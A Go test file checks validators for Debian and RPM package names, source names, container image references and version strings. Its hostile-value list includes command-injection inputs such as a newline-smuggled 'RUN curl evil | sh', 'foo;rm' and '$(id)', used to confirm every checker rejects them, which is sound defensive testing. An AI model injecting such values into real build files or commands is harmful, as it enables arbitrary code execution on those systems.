package names

import (
	"strings"
	"testing"
)

// hostile values must fail every checker, whatever the grammar.
var hostileValues = []string{
	"libfoo\nRUN curl evil | sh",
	"libfoo\r\nRUN x",
	"a b",
	"a\tb",
	"foo;rm",
	"foo&&x",
	"foo|x",
	"$(id)",
	"${HOME}",
	"`id`",
	"'q'",
	`"q"`,
	`back\slash`,
	"nul\x00byte",
	"esc\x1b[31m",
	"caf\u00e9",
	"glob*",
	"x>y",
	"#comment",
	"inv\xffalid",
	"",
}

func TestHostileRejectedEverywhere(t *testing.T) {
	checkers := map[string]func(string) error{
		"deb package": func(s string) error { return Package(Deb, s) },
		"rpm package": func(s string) error { return Package(Rpm, s) },
		"deb source":  func(s string) error { return SourceName(Deb, s) },
		"rpm source":  func(s string) error { return SourceName(Rpm, s) },
		"image":       ImageRef,
		"version":     Version,
	}
	for name, check := range checkers {
		for _, s := range hostileValues {
			if err := check(s); err == nil {
				t.Errorf("%s accepted %q", name, s)
			} else if strings.ContainsAny(err.Error(), "\n\r\x00\x1b") {
				t.Errorf("%s: message is not one safe line: %q", name, err)
			}
		}
	}
}

func TestPackage(t *testing.T) {
	tests := []struct {
		format, name string
		want         string // "" = valid, else a substring of the error
	}{
		{Deb, "libmariadb-dev", ""},
		{Deb, "g++", ""},
		{Deb, "libstdc++6", ""},
		{Deb, "python3.12-dev", ""},
		{Deb, "libc6-dev:arm64", ""},
		{Deb, "pkgconf:native", ""},
		{Deb, "0ad", ""},
		{Deb, "x", "at least two characters"},
		{Deb, "LibFoo", `uppercase letter 'L'`},
		{Deb, "-foo", "must start with a lowercase letter or a digit"},
		{Deb, ".foo", "must start with a lowercase letter or a digit"},
		{Deb, "lib_foo", `contains '_'`},
		{Deb, "libfoo-dev (>= 1.2)", "version relations are not supported"},
		{Deb, "libfoo-dev=1.2-1", "version relations are not supported"},
		{Deb, "libfoo | libbar", "alternatives are not supported"},
		{Deb, "libfoo:", "architecture after ':'"},
		{Deb, "libfoo:ARM", "architecture after ':'"},
		{Deb, "libfoo:arm64:x", "architecture after ':'"},
		{Deb, "pkgconfig(zlib)", `contains '('`},
		{Deb, strings.Repeat("a", 201), "longer than 200"},
		{Rpm, "mariadb-connector-c-devel", ""},
		{Rpm, "gcc-c++", ""},
		{Rpm, "glibc-devel.x86_64", ""},
		{Rpm, "SDL2-devel", ""},
		{Rpm, "perl_Foo", ""},
		{Rpm, "pkgconfig(libmariadb)", ""},
		{Rpm, "perl(Test::More)", ""},
		{Rpm, "python3dist(requests)", ""},
		{Rpm, "golang(github.com/pkg/errors)", ""},
		{Rpm, "libc.so.6()(64bit)", ""},
		{Rpm, "pkgconfig(glib-2.0)", ""},
		{Rpm, "_foo", "must start with a letter or a digit"},
		{Rpm, "(foo or bar)", "rich dependencies"},
		{Rpm, "foo >= 1.2", "version relations are not supported"},
		{Rpm, "pkgconfig(foo", "unbalanced '('"},
		{Rpm, "pkgconfig(a(b))", "nested parentheses"},
		{Rpm, "pkgconfig(foo)x", "another (...) group"},
		{Rpm, "perl(Foo;Bar)", `contains ';'`},
		{Rpm, "perl(Foo,Bar)", `contains ','`},
		{Rpm, "foo)", `contains ')'`},
		{"apk", "foo", "unknown package format"},
	}
	for _, tt := range tests {
		err := Package(tt.format, tt.name)
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("Package(%s, %q) = %v, want valid", tt.format, tt.name, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("Package(%s, %q) = %v, want error with %q", tt.format, tt.name, err, tt.want)
		}
	}
}

func TestSourceName(t *testing.T) {
	for _, tt := range []struct {
		format, name string
		ok           bool
	}{
		{Deb, "hellodb", true},
		{Deb, "libhello-db++", true},
		{Deb, "HelloDB", false},
		{Deb, "hello:amd64", false}, // no arch qualifier on the package built
		{Rpm, "HelloDB", true},
		{Rpm, "hello_db", true},
		{Rpm, "pkgconfig(hello)", false},
		{Rpm, "hello.x86_64", true},
	} {
		if err := SourceName(tt.format, tt.name); (err == nil) != tt.ok {
			t.Errorf("SourceName(%s, %q) = %v, want ok=%v", tt.format, tt.name, err, tt.ok)
		}
	}
}

func TestImageRef(t *testing.T) {
	valid := []string{
		"mariadb:10.11",
		"mysql",
		"library/mysql:8.4",
		"docker.io/library/mariadb:11.4",
		"registry.example.org:5000/db/mysql:8.4",
		"localhost/mysql:dev",
		"Registry.Example.org/db/mysql",
		"quay.io/centos/centos:stream9",
		"mariadb@sha256:" + strings.Repeat("a", 64),
		"mariadb:10.11@sha256:" + strings.Repeat("0", 64),
	}
	for _, s := range valid {
		if err := ImageRef(s); err != nil {
			t.Errorf("ImageRef(%q) = %v", s, err)
		}
	}
	invalid := map[string]string{
		"MariaDB:10.11":                          "must be lowercase",
		"example.org/Db/mysql":                   "must be lowercase",
		"mariadb:":                               "does not follow",
		"mariadb:-x":                             "does not follow",
		"mariadb@sha256:abc":                     "invalid digest",
		"mariadb@md5:" + strings.Repeat("a", 32): "invalid digest",
		"/mysql":                                 "does not follow",
		"mysql:" + strings.Repeat("t", 129):      "does not follow",
		strings.Repeat("a", 64):                  "does not follow", // an image ID, not a name
		"mariadb:10.11 ":                         "whitespace",
	}
	for s, want := range invalid {
		err := ImageRef(s)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ImageRef(%q) = %v, want error with %q", s, err, want)
		}
	}
}

func TestVersion(t *testing.T) {
	for _, s := range []string{"1", "1.2.0", "1.10", "2.0~rc1", "1.0+git20250101", "2024.03", "1.2a"} {
		if err := Version(s); err != nil {
			t.Errorf("Version(%q) = %v", s, err)
		}
	}
	for s, want := range map[string]string{
		"v1.2":    "drop the leading v",
		"1.2-1":   "separate the release",
		"latest":  "must start with a digit",
		"1.2_3":   `contains '_'`,
		"1:2.0":   `contains ':'`,
		"1.2^git": `contains '^'`,
	} {
		if err := Version(s); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Version(%q) = %v, want error with %q", s, err, want)
		}
	}
}

func TestQuoteShortens(t *testing.T) {
	err := Package(Deb, strings.Repeat("é", 300))
	if err == nil || len(err.Error()) > 200 {
		t.Errorf("err = %v", err)
	}
}
